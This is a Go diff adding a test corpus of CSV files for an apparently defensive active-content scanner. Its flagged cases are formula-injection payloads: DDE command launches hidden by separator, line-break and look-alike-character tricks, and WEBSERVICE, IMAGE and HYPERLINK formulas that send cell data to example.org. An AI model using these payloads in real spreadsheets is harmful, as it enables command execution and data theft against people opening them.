@@ -1,0 +1,52 @@
+package corpus
+
+import (
+	"strings"
+
+	"airlock"
+)
+
+// tableTricks are formulas in tables that are written so that they are overlooked.
+func tableTricks() []Case {
+	var cases []Case
+	add := func(want airlock.Reason, name, s string) {
+		cases = append(cases, Case{Name: "table-" + name, Type: "text/csv", Want: want, Make: literally(s)})
+	}
+	runs := func(name, s string) { add(airlock.ActiveContent, name, s) }
+	fine := func(name, s string) { add("", name, s) }
+	const dde = "cmd|'/c calc'!A0"
+	for _, at := range []string{"8190", "32766", "65534"} {
+		n := map[string]int{"8190": 8190, "32766": 32766, "65534": 65534}[at]
+		runs("with-dde-that-straddles-"+at+".csv", `"`+strings.Repeat("x", n)+`",=`+dde+"\n")
+	}
+	runs("with-a-call-that-straddles.csv", `"`+strings.Repeat("x", 8180)+`",=WEBSERVICE("http://example.org/"&A1)`+"\n")
+	runs("with-dde-in-a-cell-that-is-longer-than-a-piece.csv", `"=IF(A1=""`+strings.Repeat("x", 40000)+`"",`+dde+`,1)"`+"\n")
+	runs("with-dde-behind-a-colon.csv", "sep=:\na:b\n1:="+dde+"\n")
+	runs("with-dde-behind-a-caret.csv", "\"sep=^\"\r\na^="+dde+"\r\n")
+	runs("with-dde-behind-a-section-sign.csv", "SEP=\u00a7\na\u00a7="+dde+"\n")
+	runs("with-dde-and-old-line-ends.csv", "a,b\r1,="+dde+"\r")
+	runs("with-dde-in-a-quoted-second-line.csv", "a,\"\n="+dde+"\"\n")
+	runs("with-dde-over-two-lines.csv", "a,\"=IF(1,\n"+dde+")\"\n")
+	runs("with-dde-in-braces.csv", "{="+dde+"}\n")
+	runs("with-dde-behind-a-no-break-space.csv", "1,\u00a0="+dde+"\n")
+	runs("with-dde-behind-a-wide-sign.csv", "1,\uff1d"+dde+"\n")
+	runs("with-dde-behind-a-negative-number.csv", "-5,="+dde+"\n")
+	runs("with-dde-whose-topic-holds-cells.csv", "=cmd|'/c a,=b;-c'!A0\n")
+	runs("with-dde-whose-topic-holds-a-quote.csv", "=cmd|'/c ''a'' b'!A0\n")
+	runs("with-a-server-within-a-call.csv", "1,=IF(1,RTD(\"x\",\"\",\"y\"))\n")
+	runs("with-a-server-behind-an-at.csv", "=@RTD (\"x\",,\"y\")\n")
+	runs("with-a-prefixed-function.csv", "=_xlfn._xlws.WEBSERVICE(\"http://example.org/\"&A1)\n")
+	runs("with-a-function-of-an-add-in.csv", "=1+_xll.RTD(\"x\")\n")
+	runs("with-a-call-behind-a-minus.csv", "-CALL(\"a\",\"b\")\n")
+	runs("with-a-link-that-is-put-together.csv", "=HYPERLINK(CONCATENATE(\"http://example.org/\",A1),\"x\")\n")
+	runs("with-a-link-to-a-file-server.csv", "=HYPERLINK(\"\\\\example.org\\a\",\"x\")\n")
+	runs("with-a-picture-that-sends-cells.csv", "=IMAGE(\"http://example.org/?\"&A1)\n")
+
+	fine("with-remarks.csv", "a,b\n=A1+4,\"-- (see call (2))\"\n-1.5,\"- (a|b), call (me)!\"\n+49 (30) 1234,@jane\njane@example.com,(exec(utive))\n")
+	fine("with-a-link-within.csv", "=HYPERLINK(\"#\"&A1,\"x\")\n\"=HYPERLINK(\"\"mailto:a@example.com\"\",\"\"x & y (z)\"\")\"\n")
+	fine("of-bars-with-signs.csv", "a|b|c\n-1|+2|=A1+1\n@x|call (me)|wow!\n")
+	fine("of-long-cells.csv", "a,b\n\""+strings.Repeat("- some (long) text | ", 4000)+"\",=SUM(A1:A2)\n")
+	fine("with-a-quote-that-is-not-closed.csv", "a,\"b\n=1,call (me)\n2,shell (blue)\n")
+	fine("whose-separator-is-named.csv", "sep=;\r\na;b\r\n-1;(x)\r\n")
+	return cases
+}
